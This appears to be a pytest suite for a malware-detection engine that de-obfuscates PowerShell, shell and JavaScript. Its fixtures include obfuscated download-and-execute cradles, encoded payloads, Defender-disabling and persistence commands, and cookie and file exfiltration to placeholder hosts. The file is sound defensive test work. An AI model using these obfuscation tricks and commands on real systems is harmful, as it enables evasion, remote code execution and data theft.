"""PowerShell read as PowerShell reads it: each evaluator feature on its own."""

from __future__ import annotations

import base64
import zlib

import pytest

from app.detection.interpret import READERS, Behaviour, Interpretation, load_readers
from app.detection.interpret import interpret as _interpret
from app.detection.interpret.budget import Budget
from app.detection.interpret.facts import Facts
from app.detection.interpret.powershell import interpret_powershell
from app.detection.interpret.sniff import backwards, languages


def interpret(text: str) -> Interpretation:
    """Every interpreter, whatever the markers say, with a generous budget: these tests are
    about what is read, not about which texts are worth reading or how fast."""
    return _interpret(text, Budget(ms=5000, strict=True), readers=list(READERS))


def reading(text: str) -> str:
    """Every layer the interpreter produced, one text (what the rules will see)."""
    return "\n".join(interpret(text).layers)


def facts_of(text: str) -> Facts:
    facts = Facts()
    interpret_powershell(text, facts, Budget(ms=1000, strict=True))
    return facts


def names(text: str) -> list[str]:
    return [i.name for i in facts_of(text).invocations]


def b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("iex ('Invo'+'ke-WebRequest')", "'Invoke-WebRequest'"),
        ('$u = "ht" + "tps://a.test/x"; irm $u', "irm 'https://a.test/x'"),
        ("$h='evil.test'; irm \"https://$h/p\"", "irm 'https://evil.test/p'"),
        ("iex ('{2}{0}{1}' -f 'ke-Ex','pression','Invo')", "'Invoke-Expression'"),
        ("iex (('i','r','m') -join '')", "'irm'"),
        ("iex (-join ('i','w','r'))", "'iwr'"),
        ("iex ('iXXwr' -replace 'XX','')", "'iwr'"),
        ("iex ('iZZrm'.Replace('ZZ',''))", "'irm'"),
        ("iex ('xxInvoke-WebRequestyy'.Substring(2,17))", "'Invoke-WebRequest'"),
        ("iex ([char]105+[char]0x77+[char]114)", "'iwr'"),
        ("iex ([string][char[]](105,101,120))", "'i e x'"),
        ("$s='mri'; iex (-join $s[-1..-3])", "'irm'"),
        ("$s='mri'; iex ($s[2,1,0] -join '')", "'irm'"),
        ("$c='mri'.ToCharArray(); [array]::Reverse($c); iex ($c -join '')", "'irm'"),
        ("iex ($env:public[13]+$env:public[5]+'x')", "'iex'"),
        ("iex ($pshome[4]+$pshome[30]+'x')", "'iex'"),
        ('iex "i`wr"', "'iwr'"),
        ("iex ('IwR'.ToLower())", "'iwr'"),
        (
            f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('irm x.test')}')))",
            "irm x.test",
        ),
        (
            f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64('irm y.test', 'utf-16-le')}')))",
            "irm y.test",
        ),
        ("iex ([Uri]::UnescapeDataString('%69%72%6d%20z.test'))", "irm z.test"),
        (
            "iex (-join ('69726d'-split '(..)' | ? {$_} | % {[char][Convert]::ToInt32($_,16)}))",
            "'irm'",
        ),
        ("iex (-join ([byte[]](44,55,40) | % {[char]($_ -bxor 69)}))", "'irm'"),
        ("$a='i';$b='rm'; iex ($a+$b)", "'irm'"),
        ("Set-Variable q 'irm'; iex $q", "iex 'irm'"),
        ("iex ([string]::Join('', ('i','r','m')))", "'irm'"),
        ("iex ('{0}{1}' -f [char]105,'rm')", "'irm'"),
    ],
)
def test_string_tricks_are_evaluated(text: str, expected: str) -> None:
    assert expected in reading(text)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("& (gal i*x) 'whoami'", "invoke-expression"),
        ("& (Get-Alias ?e[?x]) 'whoami'", "invoke-expression"),
        ("& (gcm *stM*) https://a.test", "invoke-restmethod"),
        ("& (Get-Command I*-W*t) https://a.test", "invoke-webrequest"),
        ("& (gcm ('*ke-ex'+'pr*')) 'x'", "invoke-expression"),
        ("& (dir \\W*\\*32\\c??l.e*) https://a.test", "curl"),
        ("& (gi C:\\W*\\S*m32\\m*ta.e*) https://a.test", "mshta"),
        ("& (gci $env:windir\\*\\*ershell\\v1.0\\p*l.exe) -c x", "powershell"),
        ("&('i'+'ex') 'x'", "invoke-expression"),
        (".($env:comspec[4,15,25]-join'') 'x'", "invoke-expression"),
        ("sal z iex; z 'x'", "invoke-expression"),
        (
            "& $ExecutionContext.InvokeCommand.GetCommand('I*-Ex*','Cmdlet') 'x'",
            "invoke-expression",
        ),
        (
            "& ($ExecutionContext.InvokeCommand.GetCommandName('*ke-R*od',1,1)) https://a.test",
            "invoke-restmethod",
        ),
        ("i`e`x 'x'", "invoke-expression"),
        ("IeX 'x'", "invoke-expression"),
    ],
)
def test_commands_are_resolved_like_powershell(text: str, command: str) -> None:
    assert command in names(text)


def test_downloaded_code_handed_to_iex_is_runs_downloaded() -> None:
    for text in (
        "iex (New-Object Net.WebClient).DownloadString('https://a.test/x')",
        "irm https://a.test/x | iex",
        "iex (iwr https://a.test/x).Content",
        "$w = New-Object Net.WebClient; $c = $w.DownloadString('https://a.test/x'); iex $c",
        "[ScriptBlock]::Create((irm https://a.test/x)).Invoke()",
        "& (gal i*x) (irm ('https://a.te'+'st/x'))",
    ):
        result = interpret(text)
        assert Behaviour.RUNS_DOWNLOADED in result.behaviours, text
        assert any("a.test/x" in e for e in result.behaviours[Behaviour.RUNS_DOWNLOADED]), text


def test_code_given_to_iex_is_read_in_turn() -> None:
    inner = "Invoke-WebRequest https://b.test/p -OutFile p.exe"
    text = f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(inner)}')))"
    assert "invoke-webrequest" in names(text)
    assert inner in reading(text)


def test_powershell_encoded_command_is_read() -> None:
    text = f"powershell -nop -enc {b64('irm https://c.test | iex', 'utf-16-le')}"
    assert "https://c.test" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]


def test_quotes_written_backslash_quote_inside_powershell_c_are_quotes_of_the_code() -> None:
    # the Run box and cmd split powershell's command line as Windows does: \" is a quote
    text = 'powershell -c "$u=\\"https://e.test/s\\"; iex (irm $u)"'
    assert "https://e.test/s" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]


def test_deflate_payload_is_inflated_and_read() -> None:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blob = base64.b64encode(c.compress(b"irm https://d.test/z | iex") + c.flush()).decode()
    text = (
        "iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{blob}'),"
        "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
    )
    assert "https://d.test/z" in interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED]


def test_foreach_loop_that_builds_a_string() -> None:
    text = "$r=''; foreach($c in 105,114,109){$r+=[char]$c}; iex $r"
    assert "iex 'irm'" in reading(text)


def test_for_loop_that_decodes_hex() -> None:
    text = "$h='69726d'; $r=''; for($i=0;$i -lt $h.Length;$i+=2){$r+=[char][Convert]::ToInt32($h.Substring($i,2),16)}; iex $r"
    assert "iex 'irm'" in reading(text)


def test_hidden_command_is_a_behaviour_only_when_never_written_out() -> None:
    assert Behaviour.HIDDEN_COMMAND in interpret("& (gal i*x) 'x'").behaviours
    # a script that names its program in a variable is not hiding it
    plain = '$exe = "C:\\Tools\\curl.exe"; & $exe https://example.com -o out.txt'
    assert Behaviour.HIDDEN_COMMAND not in interpret(plain).behaviours


def test_persistence_and_protection_tampering_are_behaviours() -> None:
    tamper = interpret("& ('Set-Mp'+'Preference') -DisableRealtimeMonitoring $true")
    assert Behaviour.WEAKENS_PROTECTION in tamper.behaviours
    exclusion = interpret("Add-MpPreference -ExclusionPath ($env:temp+'\\x')")
    assert Behaviour.WEAKENS_PROTECTION in exclusion.behaviours
    run_key = "New-ItemProperty -Path ('HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\'+'Run') -Name u -Value x"
    assert Behaviour.PERSISTS in interpret(run_key).behaviours


def test_upload_is_sending_data_away() -> None:
    text = "Invoke-RestMethod -Uri ('https://e.test/'+'u') -Method Post -InFile $env:temp\\k.zip"
    assert Behaviour.SENDS_DATA in interpret(text).behaviours


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host ('{0} files in {1}' -f $count, $folder)",
        "$names = $users | ForEach-Object { $_.Name }; $names -join ', '",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 10MB } | Remove-Item",
        "$path = Join-Path $env:ProgramData 'Contoso'; New-Item -ItemType Directory -Path $path -Force",
        "$s = 'a,b,c' -split ','; $s[0].ToUpper()",
        "[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('user:pass'))",
        "Get-Service | Sort-Object Status | Format-Table -AutoSize",
    ],
)
def test_ordinary_admin_scripts_have_no_behaviour_of_concern(text: str) -> None:
    result = interpret(text)
    worrying = {Behaviour.RUNS_DOWNLOADED, Behaviour.HIDDEN_COMMAND, Behaviour.WEAKENS_PROTECTION}
    assert not worrying & set(result.behaviours), result.behaviours


@pytest.mark.parametrize(
    "text",
    [
        "Meeting moved to 3 pm, see you there",
        "curl -fsSL https://get.example.com/install.sh | sh",
        "iex (irm https://get.example.com/install.ps1)",
        "C:\\Windows\\System32\\notepad.exe C:\\Users\\me\\notes.txt",
        "git clone https://github.com/example/project && cd project",
    ],
)
def test_a_text_written_plainly_is_not_parsed_at_all(text: str) -> None:
    """Plain spellings are the pattern rules' job; parsing them only costs time."""
    assert languages(text.lower()) == []
    assert _interpret(text).layers == []


@pytest.mark.parametrize(
    "text",
    [
        "iwr https://a.test/t.zip -OutFile $env:TEMP\\t.zip; Expand-Archive $env:TEMP\\t.zip $d",
        '$p="$env:LOCALAPPDATA\\tool\\tool.exe"; & $p --version',
        "Start-Process $env:USERPROFILE\\bin\\tool.exe",
    ],
)
def test_a_backslash_in_a_powershell_path_is_no_shell_escape(text: str) -> None:
    """`p\\t` in `$env:TEMP\\t.zip` is a Windows path, not bash's `\\t`: such a text is not
    also read as a shell line (which only made noise: '$env:tempt.zip' as a program)."""
    assert "posix" not in languages(text.lower())
    assert "powershell" in languages(text.lower())


def test_a_backslash_inside_a_shell_word_still_makes_a_shell_reading() -> None:
    assert "posix" in languages("c\\url -s https://a.test/x | s\\h".lower())


def test_dotnet_base64_is_no_sign_of_the_base64_program() -> None:
    dotnet = "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdy')))"
    assert languages(dotnet.lower()) == ["powershell"]
    assert "posix" in languages("echo aXdy | base64 -d | sh")
    assert "posix" in languages(f"echo aXdy | base64 -d | sh; {dotnet}".lower())


def test_javascripts_eval_call_is_no_sign_of_a_shell() -> None:
    js = "fetch(atob('aHR0cHM6Ly9hLnRlc3QvcC5qcw==')).then(r=>r.text()).then(t=>eval(t))"
    assert languages(js.lower()) == ["javascript"]
    assert "posix" in languages('eval "$(curl -fsSL https://a.test/x)"')


@pytest.mark.parametrize(
    "text",
    [
        "fetch('https://cdn-'+'stats.test/a.js').then(r => r.text()).then(eval)",
        "fetch('/a').then(r=>r.text()).then(t=>fetch('https://x.test/a?d='+btoa(t)))",
        "window['ev'+'al'](atob('ZmV0Y2goJ2h0dHBzOi8veC50ZXN0Jyk='))",
        "fetch('https://x.test/c?d='+document.cookie)",
    ],
)
def test_a_promise_chain_is_javascript_not_powershell(text: str) -> None:
    assert languages(text.lower()) == ["javascript"]


def test_powershell_concatenation_beside_javascript_words_is_still_powershell() -> None:
    text = "$u='https://a.'+'test/x'; fetch($u).then(eval); iex (irm $u)"
    assert "powershell" in languages(text.lower())


@pytest.mark.parametrize(
    "text",
    [
        # Markdown's code spans and fences around a shell line
        "Paste `echo aGk= | base64 -D | zsh`, which decodes to `curl -s https://a.test/s | bash`.",
        "```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```",
        # a shell's ${NAME} and its expansions, which PowerShell has no use for
        'curl -L "https://example.com/v/${VERSION}/cli-${ARCH}.tar.gz" | tar xz -C ${HOME}/bin',
        'echo "${#list[@]} files in ${dir%/}"',
    ],
)
def test_markdown_code_and_shell_expansions_are_no_sign_of_powershell(text: str) -> None:
    """A backtick at a word's edge is Markdown's, ${NAME} is the shell's: reading such a text
    as PowerShell too only cost its grammar's error recovery (~0.5 ms a text)."""
    assert "powershell" not in languages(text.lower())


@pytest.mark.parametrize(
    "text",
    [
        "i`e`x (irm https://a.test/x)",
        'Write-Host "`"done`""; iwr https://a.test/t.zip `\n  -OutFile t.zip',
        "Run `i`e`x` in the console",  # a backtick inside a word, even in a code span
        "${env:comspec} /c whoami",
        "${;}='iex'; & ${;} (irm https://a.test/x)",
    ],
)
def test_powershells_own_backticks_and_braces_still_make_a_powershell_reading(text: str) -> None:
    assert "powershell" in languages(text.lower())


def test_a_docstrings_quotes_are_no_quotes_inserted_into_a_shell_word() -> None:
    source = 'def build(options):\n    """Turn flags into arguments."""\n    return []\n'
    assert "posix" not in languages(source.lower())
    assert "posix" in languages("cu\"\"rl -s https://a.test/x | ba''sh")


@pytest.mark.parametrize(
    "text",
    [
        "document.getElementById('q').value = '';\nfetch('https://docs.example.org/i.json')"
        ".then(r => r.json()).then(show);",
        "$parts = @('a', 'b'); $s = $parts -join ''; Write-Host \"\" ; Write-Host $s",
        'cmd /v:on /c start "" "C:\\Program Files\\Tool\\tool.exe"',
    ],
)
def test_another_languages_empty_string_is_no_sign_of_a_shell(text: str) -> None:
    """'' and "" between blanks or brackets are JavaScript's, PowerShell's or cmd's empty
    string: such a text is not also read as a shell line (the bash grammar's error recovery
    over a 1 KiB script: ~0.7 ms, the slowest texts of the bench)."""
    found = languages(text.lower())
    assert found and "posix" not in found


@pytest.mark.parametrize(
    "text",
    [
        # the same empty quotes, but one pair inside or beside a word: a shell's trick
        "document.getElementById('q').value = '';\nfetch('/a').then(r => r.json()); cu''rl a.test",
        "$s = @('a') -join ''; ''bash -c id",
        'cmd /v:on /c start "" "C:\\Program Files\\Tool\\tool.exe" & w""get a.test',
        # no other language's marker: a shell line's own empty string still makes its reading
        'osascript -e \'display dialog "Code" default answer ""\' | curl -s -d @- https://a.test/p',
    ],
)
def test_empty_quotes_beside_a_word_or_in_a_shell_line_still_make_a_shell_reading(
    text: str,
) -> None:
    assert "posix" in languages(text.lower())


@pytest.mark.parametrize(
    "text",
    [
        "import os\nimport subprocess\n\ndef args(o):\n    return ['-' + 'O', eval(o)]\n",
        "# tool\nfrom ast import literal_eval\n\nprint('a' + 'b'.replace('x', 'y'))\n",
        "@dataclass\nclass Money:\n    value: str = '0' + '.00'\n",
    ],
)
def test_python_source_is_read_neither_as_powershell_nor_as_javascript(text: str) -> None:
    """Python joins strings with '+', indexes with ['…'] and has eval( as both do."""
    found = languages(text.lower())
    assert "powershell" not in found and "javascript" not in found


@pytest.mark.parametrize(
    "text",
    [
        "import-module bits; $u='https://a.'+'test/x'; iex (irm $u)",
        "class Stage : Base {\n  [string] $u = 'https://a.' + 'test/x'\n}",
        "import x from './x.js'\neval(atob('ZmV0Y2goJ2h0dHBzOi8veC50ZXN0Jyk='))",
    ],
)
def test_what_only_looks_like_python_is_still_read(text: str) -> None:
    assert languages(text.lower())


@pytest.mark.parametrize(
    "text",
    [
        ':: build the docs\ncall make.bat html & start "" build\\html\\index.html',
        "open http://[::1]:8080/ and http://[::ffff:192.0.2.1]/ in the browser",
        "use std::io::Read;\nfn main() { let mut s = String::new(); }",
        'std::vector<std::string> names; names.push_back("a");',
    ],
)
def test_a_double_colon_after_no_type_is_no_sign_of_powershell(text: str) -> None:
    """A cmd comment, an IPv6 address, Rust, C++: reading them as PowerShell only cost
    its grammar's error recovery."""
    assert "powershell" not in languages(text.lower())


@pytest.mark.parametrize(
    "text",
    [
        "[convert]::FromBase64String('aQBlAHgA')",
        "$t = [type]('Con'+'vert'); $t::FromBase64String('aQBlAHgA')",
        "${t}::FromBase64String('aQBlAHgA')",
        "([type]'Convert') :: FromBase64String('aQBlAHgA')",
    ],
)
def test_a_double_colon_after_a_type_or_its_variable_is_powershell(text: str) -> None:
    assert "powershell" in languages(text.lower())


REVERSING = [
    "$a='redaol/x/tset.a//:sptth'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))",
    "iex ((\"txt.a/tset.a//:sptth\")[-1..-99] -join '')",
]


@pytest.mark.parametrize("text", REVERSING)
def test_the_reversed_copy_of_a_text_that_reverses_a_string_is_not_read(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    low = text.lower()
    assert languages(low) and not backwards(low)
    # its reversed copy shows no marker (']::esrever' has no type before its '::'), or shows
    # some and reads better reversed
    assert not languages(low[::-1]) or backwards(low[::-1])
    read: list[str] = []
    table = load_readers()  # the interpreters interpret() calls
    for name in READERS:
        monkeypatch.setitem(table, name, lambda t, f, b, name=name: read.append(name))
    _interpret(text)
    assert read  # the text itself is read
    read.clear()
    _interpret(text[::-1])
    assert read == []


def test_a_reversed_copy_that_still_shows_a_marker_is_known_as_reversed() -> None:
    rev = REVERSING[1].lower()[::-1]  # ")'' nioj- ]99-..1-[…": '' and -join, backwards
    assert languages(rev) and backwards(rev)


def test_a_text_reversing_a_string_that_holds_reversed_code_is_still_read() -> None:
    # the payload is written backwards inside a forward command: read as it is
    text = "iex ((\"))'x/tset.a//:sptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(\")[-1..-99] -join '')"
    assert not backwards(text.lower())
    assert any("DownloadString('https://a.test/x')" in x for x in _interpret(text).layers)


def test_the_guards_patterns_only_engine_never_loads_an_interpreter() -> None:
    # the guard builds Engine(interpreters=False) before it says it is ready; the interpreters
    # and their grammars are the analysis process's, so importing them there only costs start-up
    import subprocess
    import sys

    probe = (
        "import sys\n"
        "from app.detection.engine import Engine\n"
        "e = Engine(interpreters=False)\n"
        "e.analyze('powershell -w h -c \"iwr https://a.test/x.ps1 | iex\"')\n"
        "loaded = sorted(m for m in sys.modules if m.startswith('app.detection.interpret.')"
        " and m.rsplit('.', 1)[1] in ('powershell', 'cmd', 'posix', 'javascript', 'grammar'))\n"
        "print(loaded, 'tree_sitter' in sys.modules)\n"
    )
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[] False"
    # and an engine that reads with them has them before its first text
    probe = probe.replace("interpreters=False", "interpreters=True").replace("e.analyze", "# ")
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert "'app.detection.interpret.powershell'" in out.stdout and "True" in out.stdout
